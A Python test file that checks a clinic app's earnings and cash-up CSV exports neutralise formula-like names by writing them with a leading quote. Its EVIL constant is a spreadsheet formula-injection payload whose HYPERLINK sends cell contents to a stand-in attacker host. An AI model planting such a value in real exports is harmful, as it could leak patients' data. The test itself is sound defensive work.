"""CSV exports never hand a spreadsheet a live formula: a name typed in at the desk (a patient's, a service's) or by
an admin (a clinic's, a doctor's) that starts like a formula is written as text (a leading ')."""

import csv
import io

from common.enums import Role
from server.models import User
from tests.factories import (
    auth,
    make_clinic,
    make_doctor,
    make_patient,
    make_payment,
    make_service,
    make_user,
    make_visit,
)

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def test_earnings_and_cash_up_csv_write_formula_like_names_as_text(client, db):
    clinic = make_clinic(db, name="@SUM(1+1)")
    doctor = make_doctor(db, clinic, full_name="-2+3 Dr Minus")
    patient = make_patient(db, clinic, full_name=EVIL)
    service = make_service(db, clinic, name="+Consultation")
    make_payment(db, make_visit(db, patient=patient, doctor=doctor, service=service))
    desk = make_user(db, role=Role.RECEPTIONIST, clinic=clinic)

    r = client.get("/doctors/earnings", params={"format": "csv"}, headers=auth(db.get(User, doctor.user_id)))
    assert r.status_code == 200, r.text
    header, cells = csv.reader(io.StringIO(r.text))
    row = dict(zip(header, cells, strict=True))
    assert (row["patient"], row["service"]) == ("'" + EVIL, "'+Consultation")

    r = client.get("/reports/cash-up", params={"format": "csv"}, headers=auth(desk))
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0][1] == "'@SUM(1+1)"
    assert [x[1] for x in rows if x[0] == "taken_by_doctor"] == ["'-2+3 Dr Minus"]
    # and nothing else moved: amounts stay numbers
    assert [x[3] for x in rows if x[:2] == ["total", "taken"]] == ["100.00"]
